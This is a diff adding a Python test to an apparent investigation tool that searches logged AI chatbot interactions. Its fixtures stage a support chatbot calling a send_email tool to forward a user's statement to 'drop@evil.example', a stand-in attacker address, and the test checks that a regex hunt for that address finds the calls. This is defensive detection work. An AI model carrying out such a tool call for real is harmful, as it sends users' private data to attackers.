@@ -125,6 +125,45 @@ def test_pattern_hunt_finds_inputs_tool_results_and_summarises(
     ]
 
 
+def test_a_match_on_a_tool_call_counts_the_user_of_its_trace(
+    db: Database, inventory: list[str], evidence_dir: Path
+) -> None:
+    """Tool spans seldom carry the user; the summary takes the one of the trace's chat."""
+    trace = "e" * 32
+    with db.session() as session:
+        add(
+            session,
+            [
+                interaction(
+                    1,
+                    prompt="email my statement",
+                    system="support-chatbot",
+                    user="zoe",
+                    trace=trace,
+                ),
+                interaction(
+                    2,
+                    operation="execute_tool",
+                    tool="send_email",
+                    system="support-chatbot",
+                    trace=trace,
+                    tool_arguments={"to": "drop@evil.example"},
+                ),
+                interaction(
+                    3,
+                    operation="execute_tool",
+                    tool="send_email",
+                    system="support-chatbot",
+                    trace="d" * 32,
+                    tool_arguments={"to": "drop@evil.example"},
+                ),
+            ],
+        )
+    done = _run(db, pattern=r"drop@evil\.example")
+    assert len(_matched(db, done.id)) == 2
+    assert done.summary["users"] == [{"id": "zoe", "matches": 1}]
+
+
 def test_filters_anchors_escapes_and_texts(
     db: Database, inventory: list[str], evidence_dir: Path
 ) -> None:
